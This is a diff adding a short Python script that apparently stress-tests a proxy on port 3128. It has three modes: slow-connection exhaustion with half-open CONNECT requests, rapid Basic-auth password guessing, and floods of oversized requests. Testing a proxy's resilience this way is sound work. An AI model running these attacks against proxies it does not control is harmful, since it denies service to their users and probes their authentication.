@@ -1,0 +1,58 @@
+"""What an attacker does to a proxy at 3128, for some seconds.
+
+Usage: attack.py half-open PROXY-ADDRESS SECONDS COUNT    requests that never end
+       attack.py guess PROXY-ADDRESS SECONDS RATE USER    CONNECTs with a new wrong password, RATE a second
+       attack.py fill PROXY-ADDRESS SECONDS               long requests that are refused
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import itertools
+import socket
+import sys
+import threading
+import time
+
+HEAD = b"CONNECT hub.azure-devices.net:443 HTTP/1.1\r\nHost: hub.azure-devices.net:443\r\n"
+
+
+def half_open(proxy: str, count: int) -> list[socket.socket]:
+    """Begin requests; whoever keeps the sockets keeps them open."""
+    opened = []
+    for _number in range(count):
+        stream = socket.create_connection((proxy, 3128), timeout=5)
+        stream.sendall(HEAD)
+        opened.append(stream)
+    return opened
+
+
+def ask(proxy: str, request: bytes) -> None:
+    """Send one request and wait for the answer."""
+    with contextlib.suppress(OSError), socket.create_connection((proxy, 3128), timeout=5) as stream:
+        stream.sendall(request)
+        stream.recv(4096)
+
+
+def main() -> None:
+    """Attack."""
+    kind, proxy, seconds, *more = sys.argv[1:]
+    end = time.monotonic() + float(seconds)
+    kept = half_open(proxy, int(more[0])) if kind == "half-open" else []
+    for number in itertools.count():
+        if time.monotonic() > end:
+            break
+        if kind == "guess":
+            wrong = base64.b64encode(f"{more[1]}:wrong {number}".encode())
+            request = HEAD + b"Proxy-Authorization: Basic " + wrong + b"\r\n\r\n"
+            threading.Thread(target=ask, args=(proxy, request), daemon=True).start()
+            time.sleep(1 / float(more[0]))
+        elif kind == "fill":
+            ask(proxy, b"GET http://hub.azure-devices.net/" + b"x" * 8000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
+        else:
+            time.sleep(0.2)
+    print(len(kept) or number)
+
+
+main()
